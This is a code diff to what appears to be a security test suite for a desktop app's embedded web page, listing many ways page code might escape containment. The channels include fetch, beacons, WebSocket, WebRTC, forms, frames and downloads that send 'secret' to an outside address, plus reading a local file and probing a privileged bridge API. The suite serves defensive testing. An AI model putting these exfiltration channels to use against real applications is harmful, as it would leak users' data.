@@ -1,8 +1,16 @@
 /** A way in which code in the page could try to reach something that it must not. */
 export interface Escape {
   readonly name: string;
-  /** Runs in the page, as text: it sees the address of somebody outside and nothing else. True: it worked. */
-  readonly run: (outside: string) => boolean | Promise<boolean>;
+  /** Runs in the page, as text: it sees what is out of its reach and nothing else. True: it worked. */
+  readonly run: (beyond: Beyond) => boolean | Promise<boolean>;
+}
+
+/** What a page must not reach. */
+export interface Beyond {
+  /** Address of somebody who waits on this machine. */
+  readonly outside: string;
+  /** Address of a picture on its disk. */
+  readonly picture: string;
 }
 
 /* Each waits a moment at most: what has not worked by then is judged by what arrived outside. */
@@ -20,7 +28,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'script from outside',
-    run: (outside) =>
+    run: ({ outside }) =>
       new Promise((resolve) => {
         const script = document.createElement('script');
         script.onload = () => resolve(true);
@@ -75,7 +83,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'import of a module from outside',
-    run: (outside) => {
+    run: ({ outside }) => {
       const address = `${outside}module.js`;
       return import(/* @vite-ignore */ address).then(
         () => true,
@@ -106,7 +114,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'fetch',
-    run: (outside) =>
+    run: ({ outside }) =>
       fetch(outside).then(
         () => true,
         () => false,
@@ -114,7 +122,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'fetch without an answer',
-    run: (outside) =>
+    run: ({ outside }) =>
       fetch(outside, { mode: 'no-cors', method: 'POST', body: 'secret' }).then(
         () => true,
         () => false,
@@ -122,7 +130,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'XMLHttpRequest',
-    run: (outside) =>
+    run: ({ outside }) =>
       new Promise((resolve) => {
         const request = new XMLHttpRequest();
         request.onload = () => resolve(true);
@@ -133,7 +141,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'WebSocket',
-    run: (outside) =>
+    run: ({ outside }) =>
       new Promise((resolve) => {
         const socket = new WebSocket(outside.replace('http', 'ws'));
         socket.onopen = () => resolve(true);
@@ -142,7 +150,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'EventSource',
-    run: (outside) =>
+    run: ({ outside }) =>
       new Promise((resolve) => {
         const source = new EventSource(outside);
         source.onopen = () => resolve(true);
@@ -154,7 +162,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'WebTransport',
-    run: async (outside) => {
+    run: async ({ outside }) => {
       const Transport = (window as unknown as { WebTransport?: new (url: string) => { ready: Promise<void> } })
         .WebTransport;
       if (Transport === undefined) return false;
@@ -164,10 +172,10 @@ export const escapes: readonly Escape[] = [
       );
     },
   },
-  { name: 'beacon', run: (outside) => navigator.sendBeacon(outside, 'secret') && false },
+  { name: 'beacon', run: ({ outside }) => navigator.sendBeacon(outside, 'secret') && false },
   {
     name: 'WebRTC to a server of its own',
-    run: async (outside) => {
+    run: async ({ outside }) => {
       const { hostname, port } = new URL(outside);
       const peer = new RTCPeerConnection({
         iceServers: [{ urls: `turn:${hostname}:${port}?transport=tcp`, username: 'secret', credential: 'secret' }],
@@ -181,7 +189,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'picture',
-    run: (outside) =>
+    run: ({ outside }) =>
       new Promise((resolve) => {
         const image = new Image();
         image.onload = () => resolve(true);
@@ -191,7 +199,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'sound',
-    run: (outside) =>
+    run: ({ outside }) =>
       new Promise((resolve) => {
         const sound = new Audio(`${outside}secret.mp3`);
         sound.oncanplay = () => resolve(true);
@@ -200,7 +208,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'style sheet',
-    run: (outside) =>
+    run: ({ outside }) =>
       new Promise((resolve) => {
         const link = document.createElement('link');
         link.rel = 'stylesheet';
@@ -212,7 +220,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'style that loads a picture',
-    run: (outside) => {
+    run: ({ outside }) => {
       const style = document.createElement('style');
       style.textContent = `body { background-image: url(${outside}secret.png) !important }`;
       document.head.append(style);
@@ -223,7 +231,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'picture of a sheet made by script',
-    run: async (outside) => {
+    run: async ({ outside }) => {
       const sheet = new CSSStyleSheet();
       sheet.replaceSync(`body { background-image: url(${outside}secret.png) !important }`);
       document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
@@ -234,7 +242,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'font',
-    run: (outside) =>
+    run: ({ outside }) =>
       new FontFace('Secret', `url(${outside}secret.woff2)`).load().then(
         () => true,
         () => false,
@@ -242,7 +250,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'names looked up and connections made ahead of time',
-    run: async (outside) => {
+    run: async ({ outside }) => {
       for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender']) {
         const link = document.createElement('link');
         link.rel = rel;
@@ -256,7 +264,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'form',
-    run: async (outside) => {
+    run: async ({ outside }) => {
       const form = document.createElement('form');
       form.action = outside;
       form.method = 'POST';
@@ -269,7 +277,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'ping of a link',
-    run: async (outside) => {
+    run: async ({ outside }) => {
       const link = document.createElement('a');
       link.href = '#';
       link.ping = outside;
@@ -284,7 +292,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'frame',
-    run: (outside) =>
+    run: ({ outside }) =>
       new Promise((resolve) => {
         const frame = document.createElement('iframe');
         frame.src = outside;
@@ -331,10 +339,10 @@ export const escapes: readonly Escape[] = [
         () => false,
       ),
   },
-  { name: 'new window', run: (outside) => window.open(outside) !== null },
+  { name: 'new window', run: ({ outside }) => window.open(outside) !== null },
   {
     name: 'leaving the document',
-    run: async (outside) => {
+    run: async ({ outside }) => {
       location.assign(outside);
       await new Promise((resolve) => setTimeout(resolve, 300));
       return location.href.startsWith(outside);
@@ -342,7 +350,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'leaving by a refresh',
-    run: async (outside) => {
+    run: async ({ outside }) => {
       const meta = document.createElement('meta');
       meta.httpEquiv = 'refresh';
       meta.content = `0; url=${outside}`;
@@ -354,7 +362,7 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'download',
-    run: async (outside) => {
+    run: async ({ outside }) => {
       const link = document.createElement('a');
       link.href = `${outside}secret.exe`;
       link.download = 'secret.exe';
@@ -367,12 +375,12 @@ export const escapes: readonly Escape[] = [
   },
   {
     name: 'file of this computer as a picture',
-    run: () =>
+    run: ({ picture }) =>
       new Promise((resolve) => {
         const image = new Image();
         image.onload = () => resolve(true);
         image.onerror = () => resolve(false);
-        image.src = 'file:///usr/share/icons/hicolor/48x48/apps/chromium.png';
+        image.src = picture;
       }),
   },
   {
@@ -434,16 +442,25 @@ export const escapes: readonly Escape[] = [
     run: async () => {
       type Call = (input?: unknown) => Promise<unknown>;
       const { desk } = window as unknown as { desk: Readonly<Record<string, Readonly<Record<string, Call>>>> };
-      await desk['partner']?.['set']?.({ partnerId: 'sentinel-partner-4711' });
+      const set = (await desk['partner']?.['set']?.({ partnerId: 'sentinel-partner-4711' })) as { ok: boolean };
+      const inputs: Readonly<Record<string, unknown>> = {
+        'app.boot': undefined,
+        'partner.check': undefined,
+        'records.status': undefined,
+        'orders.list': { search: '', unfinishedOnly: false, beforeRef: null, limit: 100 },
+        'display.status': undefined,
+        'payment.methods': undefined,
+        'settings.change': {},
+      };
       const answers = await Promise.all(
-        ['app.boot', 'partner.check', 'records.status', 'orders.list', 'display.status', 'payment.methods'].map(
-          (name) => {
-            const [domain = '', call = ''] = name.split('.');
-            return Promise.resolve(desk[domain]?.[call]?.());
-          },
-        ),
+        Object.entries(inputs).map(([name, input]) => {
+          const [domain = '', call = ''] = name.split('.');
+          return Promise.resolve(desk[domain]?.[call]?.(input)) as Promise<{ ok: boolean }>;
+        }),
       );
       await desk['partner']?.['clear']?.();
+      // What was refused has proven nothing.
+      if (!set.ok || !answers.every(({ ok }) => ok)) return true;
       return JSON.stringify(answers).includes('sentinel-partner-4711');
     },
   },
